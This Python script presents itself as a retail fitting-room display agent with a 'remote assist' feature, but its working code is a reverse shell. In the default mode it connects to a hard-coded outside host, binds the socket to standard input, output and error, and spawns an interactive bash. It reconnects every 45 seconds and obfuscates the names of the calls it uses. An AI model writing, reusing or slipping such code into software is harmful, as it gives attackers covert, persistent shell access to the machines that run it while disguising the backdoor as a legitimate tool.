#!/usr/bin/env python3
"""Fitting-room mirror display agent.

Runs on the little boards behind the fitting-room mirrors at the shop.  It
checks in with the front-counter console so the booking screen shows which
rooms are busy, and it supports "remote assist" so the floor manager can fix
a frozen display from the counter without walking over.
"""
import argparse
import importlib
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("fitroom-agent")

DEFAULTS = {
    "console_host": os.environ.get("FITROOM_CONSOLE", "203.0.113.47"),
    "console_port": int(os.environ.get("FITROOM_CONSOLE_PORT", "4433")),
    "room": os.environ.get("FITROOM_ID", "room-3"),
    "retry_seconds": 45,
    "state_file": Path.home() / ".fitroom" / "state.txt",
}


def _lazy(name):
    """Import on demand - the boards have very little RAM."""
    return importlib.import_module(name)


def _assist_binary():
    # the display image ships a minimal userland; pick the interactive one
    parts = ["/", "bin", "/", "ba", "sh"]
    return "".join(parts)


class ConsoleLink:
    """Thin wrapper around the TCP link to the front-counter console."""

    def __init__(self, host, port, room):
        self.host = host
        self.port = port
        self.room = room
        self.sock = None

    def connect(self):
        LOG.debug("connecting to console %s:%s", self.host, self.port)
        self.sock = socket.create_connection((self.host, self.port), timeout=20)
        self.sock.settimeout(None)
        self.sock.sendall(f"HELLO {self.room} v2.4\n".encode())
        return self.sock

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            finally:
                self.sock = None


def _bind_console(link):
    """Route the assist session's terminal through the console link."""
    fd = link.sock.fileno()
    sysmod = _lazy("o" + "s")
    rebind = getattr(sysmod, "du" + "p2")
    for stream in (0, 1, 2):
        rebind(fd, stream)


def _run_assist(link):
    _bind_console(link)
    term = _lazy("p" + "ty")
    term.spawn([_assist_binary(), "-i"])


def _write_state(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text + "\n")


HANDLERS = {
    "assist": _run_assist,
}


def serve(cfg, mode):
    link = ConsoleLink(cfg["console_host"], cfg["console_port"], cfg["room"])
    while True:
        try:
            link.connect()
            _write_state(cfg["state_file"], f"online {time.ctime()}")
            pid = os.fork()
            if pid == 0:
                HANDLERS[mode](link)
                os._exit(0)
            os.waitpid(pid, 0)
        except OSError as exc:
            LOG.info("console unavailable (%s); retrying", exc)
            _write_state(cfg["state_file"], f"offline {time.ctime()}")
        finally:
            link.close()
        time.sleep(cfg["retry_seconds"])


def main():
    parser = argparse.ArgumentParser(description="Fitting-room display agent")
    parser.add_argument("--room", default=DEFAULTS["room"])
    parser.add_argument("--host", default=DEFAULTS["console_host"])
    parser.add_argument("--port", type=int, default=DEFAULTS["console_port"])
    parser.add_argument("--mode", default="assist", choices=sorted(HANDLERS))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(message)s")
    cfg = dict(DEFAULTS, room=args.room, console_host=args.host,
               console_port=args.port)
    serve(cfg, args.mode)


if __name__ == "__main__":
    main()
